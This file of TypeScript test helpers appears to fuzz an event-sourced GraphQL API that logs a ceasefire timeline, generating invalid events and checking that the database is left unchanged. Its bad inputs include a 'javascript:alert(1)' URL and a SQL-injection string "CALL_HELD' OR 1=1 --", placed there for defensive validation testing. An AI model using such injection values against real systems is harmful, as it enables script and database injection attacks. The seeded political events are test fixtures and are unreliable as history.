        .constantFrom(...fields)
        .chain((field) =>
          badValue(spec[field][0]).map((value) =>
            refused(
              { ...base, data: withOwnKey(base.data as Record<string, unknown>, field, value) },
              stageOf(spec[field][0], value),
            ),
          ),
        ),
      fc.constantFrom(...required).map((field) => {
        const { [field]: _gone, ...rest } = base.data as Record<string, unknown>;
        return refused({ ...base, data: rest });
      }),
      fc
        .tuple(
          unknownKey().filter((k) => !Object.prototype.hasOwnProperty.call(spec, k)),
          fc.jsonValue({ maxDepth: 2 }),
        )
        .map(([key, value]) =>
          refused({ ...base, data: withOwnKey(base.data as Record<string, unknown>, key, value) }),
        ),
    );
  });

const badSources = (): fc.Arbitrary<unknown> =>
  fc.constantFrom<unknown>(
    [],
    null,
    'Test wire',
    [{}],
    [{ publisher: '' }],
    [{ publisher: '   ' }],
    [{ publisher: 'a\u0000b' }],
    [{ publisher: 'x'.repeat(301) }],
    [{ publisher: 'x', url: 'javascript:alert(1)' }],
    [{ publisher: 'x', url: 'ftp://example.org/a' }],
    [{ publisher: 'x', url: 'http://example.org/a\u0000b' }],
    [{ publisher: 'x', url: 'http://example.org/\ud800' }],
    [{ publisher: 'x', url: 'not a url' }],
    [{ publisher: 'x', url: `https://example.org/${'a'.repeat(2048)}` }],
    [{ publisher: 'x', reliability: 'high' }],
    [{ publisher: 'x', publishedAt: '2025-02-30' }],
    [{ publisher: 'x', quotedText: 'q'.repeat(10_001) }],
    Array.from({ length: 51 }, () => ({ publisher: 'x' })),
  );

/** A change of the envelope that makes the event invalid. */
const envelopeMutation = (): fc.Arbitrary<RefusedEvent> =>
  fc.constantFrom(...Object.keys(SPECS)).chain((type) => {
    const base = baseEvent(type);
    return fc
      .oneof<fc.Arbitrary<RawEvent>[]>(
        fc
          .constantFrom<unknown>('CEASEFIRE_BROKEN', 'call_held', '', 12, null, "CALL_HELD' OR 1=1 --")
          .map((t) => ({ ...base, type: t as string })),
        fc
          .oneof(
            badValue('date'),
            fc.constantFrom<unknown>('0000-01-01', '0001-01-01T00:00+01:00', '9999-12-31T23:59:59-23:59', null),
          )
          .map((at) => ({ ...base, occurredAt: at as string })),
        fc.constantFrom<unknown>('WEEK', 'minute', '', 12).map((p) => ({ ...base, occurredPrecision: p as string })),
        badSources().map((s) => ({ ...base, sources: s as unknown[] })),
        fc
          .oneof(fc.constantFrom<unknown>('not-a-uuid', '', 12, '{00000000-0000-0000-0000-000000000000}'), injection())
          .map((id) => ({ ...base, id: id as string })),
        fc.oneof(fc.constantFrom<unknown>(null, [], 'x', 12, true), deep()).map((data) => ({ ...base, data })),
        fc
          .constantFrom(...Object.keys(SPECS[type]))
          .chain((field) =>
            deep().map((d) => ({ ...base, data: withOwnKey(base.data as Record<string, unknown>, field, d) })),
          ),
      )
      .map((event) => refused(event));
  });

/** An event the API refuses (in validation, or for an unknown reference, when it writes). */
export const invalidEvent = (): fc.Arbitrary<RefusedEvent> =>
  fc.oneof({ weight: 3, arbitrary: payloadMutation() }, { weight: 2, arbitrary: envelopeMutation() });

/** A stream id the API refuses. */
export const badStreamId = (): fc.Arbitrary<unknown> =>
  fc.oneof(
    fc.constantFrom<unknown>('', 'Bad Stream', '-x', '.x', 'x'.repeat(129), 'a/b', 'a b', 'ÄÖ'),
    injection().filter((s) => !/^[a-z0-9][a-z0-9._:-]{0,127}$/.test(s)),
  );

/** A whole append input the API refuses: bad events mixed with good ones, or a bad batch around good ones. */
export interface AppendCase {
  input: Record<string, unknown>;
  /** The valid events of the batch, in order (appended by the control). */
  valid: RawEvent[];
  /** What was broken, for the failure message. */
  broken: string;
}

export function badAppend(streamId: () => string): fc.Arbitrary<AppendCase> {
  const events = validEvents({ minLength: 0, maxLength: 3 });
  const withBadEvents = fc
    .tuple(
      events,
      fc.array(invalidEvent(), { minLength: 1, maxLength: 3 }),
      fc.array(fc.nat(), { minLength: 3, maxLength: 3 }),
    )
    .map(([valid, bad, at]) => {
      const all: RawEvent[] = [...valid];
      bad.forEach((e, i) => all.splice(at[i] % (all.length + 1), 0, e.event));
      return { input: { streamId: streamId(), events: all }, valid, broken: 'events' };
    });
  const badBatch = fc
    .tuple(
      validEvents({ minLength: 1, maxLength: 3 }),
      fc.oneof(
        badStreamId().map((v) => ['streamId', v] as const),
        fc.constantFrom<unknown>(-1, 1.5, '0', 2 ** 31, 'x', true).map((v) => ['expectedVersion', v] as const),
        fc
          .constantFrom<unknown>('', '   ', 'a\u0000b', '\ud800', 'c'.repeat(201), 12)
          .map((v) => ['correlationId', v] as const),
        fc.constantFrom<unknown>('', 'a\u0000b', 'c'.repeat(201), {}).map((v) => ['causationId', v] as const),
        fc.constantFrom<unknown>([], 'x', null).map((v) => ['events', v] as const),
        fc.constant(['mood', 'angry'] as const),
        fc.constant(['duplicateId', null] as const),
        fc.constant(['tooMany', null] as const),
      ),
    )
    .map(([valid, [field, value]]) => {
      const input: Record<string, unknown> = { streamId: streamId(), events: valid };
      if (field === 'duplicateId') {
        const id = crypto.randomUUID();
        input.events = [...valid.map((e) => ({ ...e, id })), { ...valid[0], id }];
      } else if (field === 'tooMany') {
        input.events = Array.from({ length: 501 }, (_, i) => ({
          type: 'STATEMENT_MADE',
          occurredAt: '2025-03-18',
          data: { speaker: 'trump', text: `s${i}` },
          sources: [{ publisher: 'w' }],
        }));
      } else input[field] = value;
      return { input, valid, broken: field };
    });
  return fc.oneof({ weight: 3, arbitrary: withBadEvents }, { weight: 2, arbitrary: badBatch });
}

// ---------------------------------------------------------------------------------------------
// The state a refused request must leave as it was

export interface Snapshot {
  head: string;
  events: number;
  actors: string;
  apiKeys: string;
  /** Every rm_* table as canonical JSON (jsonb text: keys sorted), rows ordered by id. */
  readModels: Record<string, string>;
  checkpoints: string;
  /** Rows of drafts, their revisions and their audit. */
  drafts: string;
}

export async function snapshot(client: pg.Client): Promise<Snapshot> {
  const head = (await client.query('SELECT last_position::text AS p FROM log_head')).rows[0].p as string;
  const events = (await client.query('SELECT count(*)::int AS n FROM events')).rows[0].n as number;
  const actors = (
    await client.query(`SELECT coalesce(jsonb_agg(to_jsonb(a) ORDER BY a.id), '[]')::text AS s FROM actors a`)
  ).rows[0].s as string;
  const apiKeys = (
    await client.query(`SELECT coalesce(jsonb_agg(to_jsonb(k) ORDER BY k.id), '[]')::text AS s FROM api_keys k`)
  ).rows[0].s as string;
  const checkpoints = (
    await client.query(
      `SELECT coalesce(jsonb_agg(jsonb_build_object('name', name, 'position', position) ORDER BY name), '[]')::text AS s FROM projection_checkpoints`,
    )
  ).rows[0].s as string;
  const tables = (
    await client.query(
      `SELECT tablename FROM pg_tables WHERE schemaname = 'public' AND tablename LIKE 'rm\\_%' ORDER BY tablename`,
    )
  ).rows.map((r) => r.tablename as string);
  const readModels: Record<string, string> = {};
  for (const table of tables) {
    readModels[table] = (
      await client.query(`SELECT coalesce(jsonb_agg(to_jsonb(t) ORDER BY t.id), '[]')::text AS s FROM "${table}" t`)
    ).rows[0].s as string;
  }
  const drafts = (
    await client.query(
      `SELECT (SELECT count(*) FROM drafts) || '/' || (SELECT count(*) FROM draft_revisions) || '/' || (SELECT count(*) FROM draft_audit) AS s`,
    )
  ).rows[0].s as string;
  return { head, events, actors, apiKeys, readModels, checkpoints, drafts };
}

/** Waits until every projection's checkpoint is at the log head (the projector took everything). */
export async function projectionsCaughtUp(client: pg.Client, timeoutMs = 15_000): Promise<void> {
  let seen = '';
  await until(
    () => `the projections to reach the log head (${seen})`,
    async () => {
      const { rows } = await client.query(
        'SELECT c.name, c.position::text AS position, h.last_position::text AS head FROM projection_checkpoints c, log_head h',
      );
      seen = JSON.stringify(rows);
      return rows.every((r) => r.position === r.head);
    },
    timeoutMs,
    25,
  );
}

// ---------------------------------------------------------------------------------------------
// Talking to the API with bodies the test helpers cannot build

export interface RawResponse {
  status: number;
  /** The parsed JSON body, or the text when it is not JSON. */
  body: any;
  headers: Headers;
}

export async function post(url: string, body: string | Buffer, headers: Record<string, string>): Promise<RawResponse> {
  const res = await fetch(url, { method: 'POST', headers, body });
  const text = await res.text();
  let parsed: unknown = text;
  try {
    parsed = JSON.parse(text);
  } catch {
    // not JSON: kept as text
  }
  return { status: res.status, body: parsed, headers: res.headers };
}

/** POST /graphql with variables written by toJson (Deep values allowed). */
export function graphql(
  baseUrl: string,
  query: string,
  variables: Record<string, unknown>,
  key: string | null,
): Promise<RawResponse> {
  const headers: Record<string, string> = { 'content-type': 'application/json' };
  if (key) headers.authorization = `Bearer ${key}`;
  return post(`${baseUrl}/graphql`, toJson({ query, variables }), headers);
}

/** Codes a refused GraphQL request may carry; INTERNAL_SERVER_ERROR is never one of them. */
export const REFUSAL_CODES = new Set([
  'BAD_USER_INPUT',
  'GRAPHQL_VALIDATION_FAILED',
  'GRAPHQL_PARSE_FAILED',
  'WRONG_EXPECTED_VERSION',
  'DUPLICATE_EVENT_ID',
  'NOT_FOUND',
  'CONFLICT',
  'BAD_REQUEST',
]);

/**
 * What every GraphQL error response must be: below 500, each error with a refusal code and a
 * message; a BAD_USER_INPUT of the service's own validation lists `{ path, reason }` and its message
 * names the first as `path: reason`; one of GraphQL's coercion names the variable path.
 * Returns a description of what is wrong, or null.
 */
export function badErrorResponse(res: RawResponse): string | null {
  if (res.status >= 500) return `status ${res.status}: ${JSON.stringify(res.body).slice(0, 500)}`;
  const errors = res.body?.errors as Array<{ message?: unknown; extensions?: Record<string, unknown> }> | undefined;
  if (!Array.isArray(errors) || errors.length === 0) return `no errors in ${JSON.stringify(res.body).slice(0, 300)}`;
  for (const error of errors) {
    const code = error.extensions?.code;
    if (typeof code !== 'string' || !REFUSAL_CODES.has(code))
      return `code ${String(code)}: ${String(error.message).slice(0, 500)}`;
    if (typeof error.message !== 'string' || error.message.trim() === '') return `error without a message (${code})`;
    const details = error.extensions?.errors as Array<{ path?: unknown; reason?: unknown }> | undefined;
    if (details !== undefined) {
      if (!Array.isArray(details) || details.length === 0) return `empty extensions.errors (${error.message})`;
      for (const d of details)
        if (typeof d.path !== 'string' || typeof d.reason !== 'string' || d.reason === '')
          return `a detail without path or reason: ${JSON.stringify(d)}`;
      if (!error.message.includes(`${details[0].path}: ${details[0].reason}`))
        return `message "${error.message}" does not name ${String(details[0].path)}`;
    } else if (
      code === 'BAD_USER_INPUT' &&
      error.extensions?.limit === undefined &&
      !/"\$?\w+(\.|\[|")|^\w+(\.\w+|\[\d+\])*: /.test(error.message)
    ) {
      // (An operation limit, depth or cost, names the limit in extensions.limit instead of a field.)
      return `BAD_USER_INPUT without a field path: ${error.message}`;
    }
  }
  return null;
}

// ---------------------------------------------------------------------------------------------
// A small timeline whose read models have state: ceasefires rejected, agreed and violated, pledges
// broken and holding, calls, a correction and a retraction.

export interface Seeded {
  strikeId: string;
  statementId: string;
  /** Stream ids of the seeded subjects. */
  streams: string[];
}

export async function seedTimeline(t: TestApp): Promise<Seeded> {
  await registerActors(t);
  await appendEvents(t, {
    streamId: 'proposal-30-day-ceasefire',
    expectedVersion: 0,
    events: [
      proposalMade({}, { occurredAt: '2025-03-11', occurredPrecision: 'DAY' }),
      proposalAccepted({ party: 'ukraine' }, { occurredAt: '2025-03-11', occurredPrecision: 'DAY' }),
      proposalRejected({ party: 'russia' }, { occurredAt: '2025-03-18', occurredPrecision: 'DAY' }),
    ],
  });
  await appendEvents(t, {
    streamId: 'proposal-energy-pause',
    events: [
      proposalMade(
        { title: 'energy pause', terms: { kind: 'CEASEFIRE', scope: 'ENERGY_INFRASTRUCTURE', durationDays: 30 } },
        { occurredAt: '2025-03-18T16:00:00Z' },
      ),
      proposalAccepted({ party: 'putin' }, { occurredAt: '2025-03-18T16:30:00Z' }),
      proposalAccepted({ party: 'zelensky', conditions: ['monitoring'] }, { occurredAt: '2025-03-19T10:00:00Z' }),
      conditionsMet({ party: 'ukraine', conditions: ['monitoring'] }, { occurredAt: '2025-03-19T11:00:00Z' }),
    ],
  });
  await appendEvents(t, {
    streamId: 'agreement-easter-truce',
    events: [agreementReached({}, { occurredAt: '2025-04-19T15:00:00Z' })],
  });
  await appendEvents(t, {
    streamId: 'pledge-russia-energy-strikes',
    events: [pledgeMade({}, { occurredAt: '2025-03-18T16:00:00Z', occurredPrecision: 'HOUR' })],
  });
  await appendEvents(t, {
    streamId: 'pledge-ukraine-military',
    events: [
      pledgeMade(
        {
          by: 'zelensky',
          to: 'trump',
          commitment: { action: 'HALT_STRIKES', targetCategory: 'MILITARY', text: 'no strikes on military targets' },
          durationDays: 3650,
        },
        { occurredAt: '2025-03-20T10:00:00Z' },
      ),
    ],
  });
  const strike = await appendEvents(t, {
    streamId: 'strike-sloviansk',
    events: [strikeReported({}, { occurredAt: '2025-03-18T16:40:00Z' })],
  });
  await appendEvents(t, {
    streamId: 'strike-sloviansk',
    events: [
      eventCorrected(strike.events[0].id, {
        data: { attacker: 'russia', targetCategory: 'ENERGY_INFRASTRUCTURE', place: 'Sloviansk grid' },
        reason: 'the grid',
      }),
    ],
  });
  await appendEvents(t, {
    streamId: 'strike-easter',
    events: [strikeReported({ place: 'Kherson', targetCategory: 'CIVILIAN' }, { occurredAt: '2025-04-20T08:00:00Z' })],
  });
  await appendEvents(t, {
    streamId: 'call-trump-putin',
    events: [
      callHeld(
        { durationMinutes: 90, topics: ['energy', 'ceasefire'] },
        { id: SEEDED_CALLS[0], occurredAt: '2025-03-18T14:00:00Z' },
      ),
    ],
  });
  await appendEvents(t, {
    streamId: 'call-trump-zelensky',
    events: [
      callHeld(
        { participants: ['trump', 'zelensky'], initiator: 'trump', durationMinutes: 60 },
        { id: SEEDED_CALLS[1], occurredAt: '2025-03-19T12:00:00Z' },
      ),
    ],
  });
  const statement = await appendEvents(t, {
    streamId: 'statement-kremlin',
    events: [statementMade({ speaker: 'kremlin', text: 'an immediate halt order was given' })],
  });
  const wrong = await appendEvents(t, {
    streamId: 'statement-wrong',
    events: [statementMade({ speaker: 'waltz', text: 'reported in error' })],
  });
  await appendEvents(t, { streamId: 'statement-wrong', events: [eventRetracted(wrong.events[0].id)] });
  return {
    strikeId: strike.events[0].id,
    statementId: statement.events[0].id,
    streams: [
      'proposal-30-day-ceasefire',
      'proposal-energy-pause',
      'agreement-easter-truce',
      'pledge-russia-energy-strikes',
      'pledge-ukraine-military',
      'strike-sloviansk',
      'call-trump-putin',
      'statement-kremlin',
    ],
  };
}

/** The app on a database of its own, the seeded timeline, and the projections caught up with it. */
export interface SeededApp {
  t: TestApp;
  db: pg.Client;
  seeded: Seeded;
  close(): Promise<void>;
}

export async function startSeededApp(): Promise<SeededApp> {
  const t = await startTestApp();
  const db = await connect(t.database.url);
  const seeded = await seedTimeline(t);
  await projectionsCaughtUp(db);
  return {
    t,
    db,
    seeded,
    close: async () => {
      await db.end();
      await t.close();
    },
  };
}
